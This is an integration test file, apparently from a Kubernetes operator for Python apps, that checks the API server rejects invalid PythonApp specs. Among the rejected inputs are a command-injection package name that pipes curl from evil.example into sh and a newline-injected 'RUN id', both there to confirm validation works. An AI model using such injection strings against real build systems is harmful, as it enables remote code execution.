package dev.pythonapp.operator.api;

import static dev.pythonapp.operator.testing.Apps.app;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.pythonapp.operator.testing.Apps;
import dev.pythonapp.operator.testing.ControlPlane;
import dev.pythonapp.operator.testing.ProjectCrds;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The committed CRD's OpenAPI patterns and CEL rules, enforced by the real kube-apiserver at admission. */
class PythonAppAdmissionIT {
    static String ns;
    final KubernetesClient client = ControlPlane.shared().adminClient();

    @BeforeAll
    static void crd() {
        ns = ProjectCrds.freshNamespace("admission");
    }

    static Stream<Arguments> invalidApps() {
        return Stream.of(
                invalid(
                        "plain-http",
                        "spec.source.git.uri",
                        "should match",
                        s -> s.source.git.uri = "http://github.com/x/y.git"),
                invalid(
                        "token-in-url",
                        "spec.source.git.uri",
                        "should match",
                        s -> s.source.git.uri = "https://user:ghp_secret@github.com/x/y.git"),
                invalid(
                        "git-protocol",
                        "spec.source.git.uri",
                        "should match",
                        s -> s.source.git.uri = "git://github.com/x/y.git"),
                invalid("no-version", "spec.pythonVersion", "Required value", s -> s.pythonVersion = null),
                invalid("bad-version", "spec.pythonVersion", "should match", s -> s.pythonVersion = "3"),
                invalid(
                        "context-escape",
                        "spec.source.contextDir",
                        "'..' is not allowed",
                        s -> s.source.contextDir = "app/../../etc"),
                invalid("image-and-os", "spec.builder", "set either builder.image or builder.os", s -> {
                    s.builder = new BuilderSpec();
                    s.builder.image = "quay.io/sclorg/python-312-c9s";
                    s.builder.os = BuilderSpec.Os.UBI9;
                }),
                invalid("hot-and-config", "spec.run", "remove run.appConfig or hotDeploy", run(r -> {
                    r.hotDeploy = true;
                    r.appConfig = "gunicorn.conf.py";
                })),
                invalid("module-as-file", "spec.run.appModule", "not a file", run(r -> r.appModule = "app.py")),
                invalid("module-as-path", "spec.run.appModule", "should match", run(r -> r.appModule = "src/app:app")),
                invalid("app-home-escape", "spec.run.appHome", "without '..'", run(r -> r.appHome = "src/../..")),
                invalid("app-home-absolute", "spec.run.appHome", "should match", run(r -> r.appHome = "/etc")),
                invalid("app-var-in-env", "spec.run.env", "through spec.run", run(r -> r.env = env("APP_MODULE"))),
                invalid("bad-env-name", "spec.run.env[0].name", "should match", run(r -> r.env = env("1 BAD"))),
                invalid("secret-in-build", "spec.build.env", "must not read Secrets", s -> {
                    s.build = new BuildSpec();
                    s.build.env = List.of(Apps.fromSecret("PIP_INDEX_URL", "pip", "url"));
                }),
                invalid("creds-in-index", "spec.build.env", "must not contain credentials", s -> {
                    s.build = new BuildSpec();
                    s.build.env =
                            List.of(new EnvVarSpec("PIP_INDEX_URL", "https://bob:hunter2@pypi.example.com/simple"));
                }),
                invalid("shell-in-package", "spec.build.packages", "each entry must be one package name", s -> {
                    s.build = new BuildSpec();
                    s.build.packages = List.of("gcc", "gcc; curl https://evil.example | sh");
                }),
                invalid("option-as-package", "spec.runtime.packages", "each entry must be one package name", s -> {
                    s.runtime = new RuntimeSpec();
                    s.runtime.packages = List.of("--nogpgcheck");
                }),
                invalid("newline-in-package", "spec.build.packages", "each entry must be one package name", s -> {
                    s.build = new BuildSpec();
                    s.build.packages = List.of("gcc\nRUN id");
                }),
                invalid("too-many-packages", "spec.build.packages", "must have at most 50 items", s -> {
                    s.build = new BuildSpec();
                    s.build.packages = IntStream.rangeClosed(0, SystemPackages.MAX_COUNT)
                            .mapToObj(i -> "pkg" + i)
                            .toList();
                }),
                invalid("long-package-name", "spec.runtime.packages[0]", "Too long", s -> {
                    s.runtime = new RuntimeSpec();
                    s.runtime.packages = List.of("p".repeat(SystemPackages.MAX_NAME_LENGTH + 1));
                }),
                invalid("compiler-in-runtime", "spec.runtime.packages", "must not install compilers", s -> {
                    s.runtime = new RuntimeSpec();
                    s.runtime.packages = List.of("httpd", "python3.12-devel");
                }),
                invalid(
                        "runtime-image-and-variant",
                        "spec.runtime",
                        "set either runtime.image or runtime.variant",
                        s -> {
                            s.runtime = new RuntimeSpec();
                            s.runtime.image = "registry.access.redhat.com/ubi9/python-312-minimal";
                            s.runtime.variant = BuilderSpec.Variant.MINIMAL;
                        }),
                invalid("bad-os", "spec.builder.os", "Unsupported value", s -> s.builder = null));
    }

    static List<EnvVarSpec> env(String name) {
        return List.of(new EnvVarSpec(name, "x:y"));
    }

    static Consumer<PythonAppSpec> run(Consumer<RunSpec> breakIt) {
        return s -> {
            s.run = new RunSpec();
            breakIt.accept(s.run);
        };
    }

    static Arguments invalid(String name, String field, String message, Consumer<PythonAppSpec> breakIt) {
        return Arguments.of(name, field, message, breakIt);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("invalidApps")
    void rejectedWithAReadableMessage(String name, String field, String message, Consumer<PythonAppSpec> breakIt) {
        PythonApp app = app(ns, name, "3.12", breakIt);
        KubernetesClientException e;
        if (name.equals("bad-os")) {
            // an enum value the Java API cannot express: send raw YAML
            e = catchThrowableOfType(
                    KubernetesClientException.class,
                    () -> client.resource("""
                    apiVersion: pythonapp.dev/v1alpha1
                    kind: PythonApp
                    metadata: {name: bad-os, namespace: %s}
                    spec: {source: {git: {uri: "https://github.com/sclorg/django-ex.git"}}, pythonVersion: "3.12", builder: {os: rhel9}}
                    """.formatted(ns)).create());
        } else {
            e = catchThrowableOfType(
                    KubernetesClientException.class,
                    () -> client.resources(PythonApp.class)
                            .inNamespace(ns)
                            .resource(app)
                            .create());
        }
        assertThat(e).as("creating %s must be refused", name).isNotNull();
        assertThat(e.getCode()).isEqualTo(422);
        assertThat(e.getMessage()).contains(field).contains(message);
    }

    @Test
    void nameTooLongForServiceAndBuildPodNames() {
        String name = "a".repeat(PythonApp.MAX_NAME_LENGTH + 1);
        KubernetesClientException e = catchThrowableOfType(
                KubernetesClientException.class,
                () -> client.resources(PythonApp.class)
                        .inNamespace(ns)
                        .resource(app(ns, name, "3.12", s -> {}))
                        .create());
        assertThat(e.getCode()).isEqualTo(422);
        assertThat(e.getMessage()).contains("at most 50 characters");
    }

    @Test
    void acceptsRuntimeAndPackagesAsDocumented() {
        PythonApp app = app(ns, "small-runtime", "3.12", s -> {
            s.build = new BuildSpec();
            s.build.packages = List.of("gcc", "gcc-c++", "python3.12-devel", "libpq-devel");
            s.runtime = new RuntimeSpec();
            s.runtime.variant = BuilderSpec.Variant.MINIMAL;
            s.runtime.packages = List.of("httpd", "libpq", "libxml2");
        });
        PythonApp created =
                client.resources(PythonApp.class).inNamespace(ns).resource(app).create();
        assertThat(created.getSpec().runtime.packages).containsExactly("httpd", "libpq", "libxml2");
        assertThat(created.getSpec().build.packages).contains("gcc-c++");
    }

    @Test
    void acceptsEveryExample() throws IOException {
        try (var files = Files.list(Path.of("examples"))) {
            List<Path> examples =
                    files.filter(f -> f.toString().endsWith(".yaml")).sorted().toList();
            assertThat(examples).isNotEmpty();
            for (Path example : examples) {
                PythonApp app = Serialization.unmarshal(Files.readString(example), PythonApp.class);
                app.getMetadata().setNamespace(ns);
                assertThat(client.resource(app).create().getSpec())
                        .as(example.toString())
                        .isNotNull();
            }
        }
    }

    @Test
    void acceptsEveryDocumentedGitUrlForm() {
        int i = 0;
        for (String uri : List.of(
                "https://github.com/sclorg/django-ex.git",
                "ssh://git@github.com/sclorg/django-ex.git",
                "git@github.com:sclorg/django-ex.git",
                "https://git.example.com:8443/team/app")) {
            PythonApp app = app(ns, "uri-" + i++, "3.12", s -> s.source.git.uri = uri);
            assertThat(client.resources(PythonApp.class)
                            .inNamespace(ns)
                            .resource(app)
                            .create()
                            .getSpec()
                            .source
                            .git
                            .uri)
                    .isEqualTo(uri);
        }
    }
}
